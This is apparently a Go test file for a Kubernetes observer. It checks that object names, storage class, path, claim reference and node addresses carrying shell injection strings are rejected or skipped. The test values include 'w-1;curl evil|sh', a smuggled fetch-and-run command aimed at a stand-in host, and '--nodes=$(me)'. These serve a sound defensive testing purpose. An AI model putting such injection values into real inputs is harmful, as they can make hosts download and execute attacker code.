// SPDX-License-Identifier: Apache-2.0

package observe

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/client-go/kubernetes/fake"
)

// TestNamesThatNoObjectHas: an API server that gives objects such names is none that is worked with.
func TestNamesThatNoObjectHas(t *testing.T) {
	const evil = "w-1;curl evil|sh"
	volume := func(change func(*corev1.PersistentVolume)) *corev1.PersistentVolume {
		pv := &corev1.PersistentVolume{ObjectMeta: metav1.ObjectMeta{Name: "v"}, Spec: corev1.PersistentVolumeSpec{
			StorageClassName: "block", PersistentVolumeSource: corev1.PersistentVolumeSource{Local: &corev1.LocalVolumeSource{Path: "/a"}}}}
		change(pv)
		return pv
	}
	for name, o := range map[string]runtime.Object{
		"a node":           node(evil, nil),
		"a volume":         volume(func(pv *corev1.PersistentVolume) { pv.Name = evil }),
		"a volume's class": volume(func(pv *corev1.PersistentVolume) { pv.Spec.StorageClassName = evil }),
		"a volume's path":  volume(func(pv *corev1.PersistentVolume) { pv.Spec.Local.Path = "/a\nb" }),
		"a volume's claim": volume(func(pv *corev1.PersistentVolume) {
			pv.Spec.ClaimRef = &corev1.ObjectReference{Namespace: "a", Name: evil}
		}),
	} {
		client := fake.NewClientset(daemonSet("provisioner", nil), configMap(), node("w-1", nil), o)
		if s, err := (&Observer{Client: client}).Observe(t.Context(), Request{Strict: true}); err == nil || s != nil {
			t.Errorf("%s: %+v, %v", name, s, err)
		}
	}
	s := cluster(2)
	s.objects = append(s.objects, user("db", evil, "w-1", "data-w-1"))
	if got, err := (&Observer{Client: s.client(t)}).Observe(t.Context(), diagnosing(Request{})); err == nil || got != nil {
		t.Errorf("a pod: %+v, %v", got, err)
	}
}

// TestAnAddressThatIsNone is not asked, nor printed.
func TestAnAddressThatIsNone(t *testing.T) {
	n := node("w-1", func(n *corev1.Node) {
		n.Status.Addresses = []corev1.NodeAddress{{Type: corev1.NodeInternalIP, Address: "--nodes=$(me)"},
			{Type: corev1.NodeInternalIP, Address: "fd00::1"}}
	})
	s, err := (&Observer{Client: fake.NewClientset(daemonSet("provisioner", nil), configMap(), n)}).Observe(t.Context(), Request{Strict: true})
	if err != nil || s.Nodes[0].Address != "fd00::1" || strings.Contains(s.Nodes[0].Address, "$") {
		t.Errorf("%+v, %v", s, err)
	}
}
